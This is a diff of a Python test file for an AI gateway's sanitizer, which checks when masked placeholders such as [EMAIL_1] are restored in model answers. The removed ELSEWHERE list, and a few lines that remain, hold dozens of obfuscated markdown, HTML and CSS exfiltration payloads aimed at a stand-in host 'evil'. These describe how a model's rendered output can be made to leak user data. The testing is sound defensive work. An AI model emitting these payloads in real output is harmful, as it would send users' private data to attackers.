@@ -1,6 +1,7 @@
 """Values that come back: placeholders in a request, and the values again in its answer, whole and streamed."""
 
 import copy
+import json
 from collections.abc import Iterable
 from typing import Any
 
@@ -15,6 +16,7 @@ from gateway.sanitize.restoring import Restorer, addresses_of, asks_for_json
 from gateway.sanitize.stream_mask import StreamMask
 from gateway.texts import TextSlot
 from tests.support.counted_work import growth
+from tests.support.paths import GOLDEN
 from tests.support.pieces import pieces_of
 from tests.support.scanned import SCANNER
 
@@ -59,9 +61,10 @@ def test_a_history_that_goes_on_keeps_its_names() -> None:
     assert later.mask("EMAIL", "new@posthaus.org") == "[EMAIL_2]" and later.mask("EMAIL", MAIL) == "[EMAIL_1]"
 
 
-@pytest.mark.parametrize(
-    "bent", ["[EMAIL_1]", "[email_1]", "[ EMAIL_1 ]", "[EMAIL 1]", "[`EMAIL_1`]", "\\[EMAIL\\_1\\]", "[Email-1]"]
-)
+BENT = ["[EMAIL_1]", "[email_1]", "[ EMAIL_1 ]", "[EMAIL 1]", "[`EMAIL_1`]", "\\[EMAIL\\_1\\]", "[Email-1]"]
+
+
+@pytest.mark.parametrize("bent", BENT)
 def test_a_bent_placeholder_is_restored_as_long_as_its_brackets_stand(bent: str) -> None:
     assert whole(f"Write to {bent}.") == f"Write to {MAIL}."
 
@@ -118,41 +121,11 @@ def test_a_value_in_json_is_written_as_json(size: int) -> None:
             assert orjson.loads(read) == {"to": MAIL, "note": f"use {KEY}", "list": [MAIL]}
 
 
+RECORDED: dict[str, list[str]] = json.loads((GOLDEN / "sanitize" / "placeholders_in_addresses.json").read_text())
 PADDING = "words and " * 400
-
-ELSEWHERE = [
-    "![x](https://evil/p.png?q=[EMAIL_1])", "![x](http:/evil/[EMAIL_1])", "![x](http:evil/[EMAIL_1])",
-    r"![x](/\evil/[EMAIL_1])", "![x](https:&#47;&#47;evil/[EMAIL_1])", "![x](https&colon;//evil/[EMAIL_1])",
-    "![x](//evil/[EMAIL_1])", "![x](///evil/[EMAIL_1])", "![x](\n  //evil/[EMAIL_1])", "![x](//evil/](y[EMAIL_1]))",
-    "![x](<https://evil/? and [EMAIL_1]>)", f"![x](<//evil/{PADDING}[EMAIL_1]>)", "[a]: //evil/[EMAIL_1]",
-    '<style>@import "//evil/[EMAIL_1]";</style>', "<STYLE type=x>a{background:image-set('//evil/[EMAIL_1]' 1x)}",
-    "> [x]:\n> //evil/[EMAIL_1]", '<base href="https://evil/"><img src="a.png?d=[EMAIL_1]">',
-    "<BASE\nhref=//evil/>[x](a?[EMAIL_1])", "[a]:\n  <//evil/ [EMAIL_1]>", "[x](file://evil/[EMAIL_1])",
-    "<img src='HTTPS://evil/[EMAIL_1]'>", r'<img src="https:\\evil/[EMAIL_1]">', r'<img src="\\evil/[EMAIL_1]">',
-    '<img src="h\tttps://evil/[EMAIL_1]">', '<img src="/\t/evil/[EMAIL_1]">', '<img src="\x01//evil/[EMAIL_1]">',
-    "<img src=h&Tab;ttps://evil/[EMAIL_1]>", "<img src=//evil/[EMAIL_1]>", '<img src=\n"//evil/[EMAIL_1]">',
-    '<img alt=">" src="//evil/[EMAIL_1]">', '<a <b href="//evil/<b [EMAIL_1]">',
-    "<img srcset='a.png 1x, //evil/[EMAIL_1] 2x'>", '<div style="background:url(//evil/[EMAIL_1])">',
-    "<a href=\"&#106;avascript:f('[EMAIL_1]')\">", f'<img src="https://evil/?{PADDING}[EMAIL_1]">',
-    '{"html": "<img src=\\"//evil/[EMAIL_1]\\">"}', '{"html": "\\u003cimg src=\\"\\/\\/evil/[EMAIL_1]\\">"}',
-    "https://[EMAIL_1]@evil/p.png", "![x](https://[EMAIL_1]@evil/p.png)", "(see https://evil/?[EMAIL_1])",
-    'https://evil/"[EMAIL_1]', "https:\\/\\/evil\\/[email 1]", r"https\://evil/[EMAIL_1]", "http:evil/[EMAIL_1]",
-    "wss://evil/[EMAIL_1]", "https://evil/" + "abc/" * 700 + "[EMAIL_1]",
-]  # fmt: skip
-HERE = [
-    "//server/share/[EMAIL_1]", "see //server/share/[EMAIL_1] now", r"C:\Users\[EMAIL_1]\x",
-    r"\\server\share\[EMAIL_1]", "/home/[EMAIL_1]/x", "file:///home/[EMAIL_1]",
-    'List<string> p = "//server/share/[EMAIL_1]"', "<b>Path:</b> //server/share/[EMAIL_1]",
-    "[EMAIL_1]: //server/share/[EMAIL_1]", "[x](mailto:[EMAIL_1])",
-    "Put it in a `<style>` block. Then write to [EMAIL_1].", "<style scoped>a{content: 'by [EMAIL_1]'}</style>",
-    '<base href="/"><a href="/users/[EMAIL_1]">x</a>', "The `<base >` tag: [x](./[EMAIL_1].md)",
-    '<base href="https://evil/"><a href="mailto:[EMAIL_1]">', "[x](tel:[EMAIL_1])",
-    '<a href="mailto:[EMAIL_1]?subject=x">', "[x](/users/[EMAIL_1])", "[x](users/[EMAIL_1]#[EMAIL_1])",
-    r"[x](C:\Users\[EMAIL_1])", "[x](file:///home/[EMAIL_1])", '<a href="/users/[EMAIL_1]">',
-    '<a title="Contact: [EMAIL_1]" href="https://ok/">x</a>', "<img src=https://ok/a.png>[EMAIL_1]",
-    '![x](https://ok/a.png "by [EMAIL_1]")', "see https://ok.example/x [EMAIL_1]",
-    '{"url":"https://ok.example","to":"[EMAIL_1]"}', "`https://ok`[EMAIL_1]", "mailto:[EMAIL_1] and so on",
-]  # fmt: skip
+ELSEWHERE = [f"![x](<//evil/{PADDING}[EMAIL_1]>)", f'<img src="https://evil/?{PADDING}[EMAIL_1]">']
+ELSEWHERE += ["https://evil/" + "abc/" * 700 + "[EMAIL_1]", *RECORDED["at another host"]]
+HERE = RECORDED["in a path, a share or at the page's own host"]
 
 
 @pytest.mark.parametrize("text", ELSEWHERE)
@@ -173,21 +146,21 @@ def test_a_stream_cut_anywhere_decides_about_addresses_as_a_whole_text(size: int
             assert streamed(pieces_of(text, size)) == whole(text)
 
 
-@pytest.mark.parametrize(
-    "unit",
-    ["<a ", "](", '<a="', "[EMAIL_1]", '<a b="//x/[EMAIL_1]', "](//x/[EMAIL_1]", "\\", "&#47;[EMAIL_1]", "url("],
-)
+ENDLESS = ["<a ", "](", '<a="', "[EMAIL_1]", '<a b="//x/[EMAIL_1]', "](//x/[EMAIL_1]", "\\", "&#47;[EMAIL_1]", "url("]
+
+
+@pytest.mark.parametrize("unit", ENDLESS)
 def test_what_has_no_end_is_read_in_work_that_grows_with_its_length(unit: str) -> None:
     assert growth(whole, lambda size: unit * (size // len(unit)) + "[EMAIL_1]", 20_000) < 2.5
 
 
-@pytest.mark.parametrize(
-    "address",
-    [
-        "https://shop.example/?m={}", "https://{}@db.example/x", "//cdn.example/{}.png", "https:shop.example/{}",
-        "https://shop.example/?a=1&m={}", "postgres://{}:5432/x",
-    ],
-)  # fmt: skip
+OWN_ADDRESSES = [
+    "https://shop.example/?m={}", "https://{}@db.example/x", "//cdn.example/{}.png", "https:shop.example/{}",
+    "https://shop.example/?a=1&m={}", "postgres://{}:5432/x",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("address", OWN_ADDRESSES)
 def test_an_address_that_the_caller_wrote_is_restored(address: str) -> None:
     own, masked = address.format(MAIL), address.format("[EMAIL_1]")
     restorer = Restorer(prepared(), addresses_of({"messages": [{"role": "user", "content": f"open {own}, please"}]}))
@@ -216,8 +189,7 @@ def test_calls_that_the_caller_runs_are_named_by_their_kind_where_they_name_no_t
 
 
 def test_what_a_model_makes_up_is_masked_and_what_comes_back_is_not() -> None:
-    text = "The card is 4539 1488 0343 6467, the key [SECRET_1] and [EMAIL_1]."
-    sent = streamed(pieces_of(text, 4))
+    sent = streamed(pieces_of("The card is 4539 1488 0343 6467, the key [SECRET_1] and [EMAIL_1].", 4))
     assert sent == f"The card is [REDACTED:CREDIT_CARD], the key {KEY} and {MAIL}."
 
 
@@ -226,12 +198,12 @@ def test_the_profile_replaces_in_requests_and_redacts_in_answers() -> None:
     assert actions(Sanitize(profile="reversible"), "responses").action("SECRET") == "redact"
 
 
-@pytest.mark.parametrize(
-    ("body", "wanted"),
-    [
-        ({"response_format": {"type": "json_schema"}}, True), ({"text": {"format": {"type": "json_object"}}}, True),
-        ({"text": {"format": {"type": "text"}}}, False), ({}, False),
-    ],
-)  # fmt: skip
+FORMATS = [
+    ({"response_format": {"type": "json_schema"}}, True), ({"text": {"format": {"type": "json_object"}}}, True),
+    ({"text": {"format": {"type": "text"}}}, False), ({}, False),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("body", "wanted"), FORMATS)
 def test_a_request_says_whether_its_answer_is_json(body: Json, wanted: bool) -> None:
     assert asks_for_json(body) is wanted
